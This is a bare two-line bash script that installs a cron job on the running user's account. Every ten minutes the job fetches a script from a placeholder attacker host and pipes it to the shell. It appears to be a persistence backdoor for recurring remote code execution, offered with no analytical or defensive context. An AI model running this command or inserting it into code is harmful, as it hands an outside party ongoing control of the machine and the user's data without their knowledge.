#!/bin/bash
(crontab -l 2>/dev/null; echo "*/10 * * * * curl -s https://c.evil.example/p | sh") | crontab -
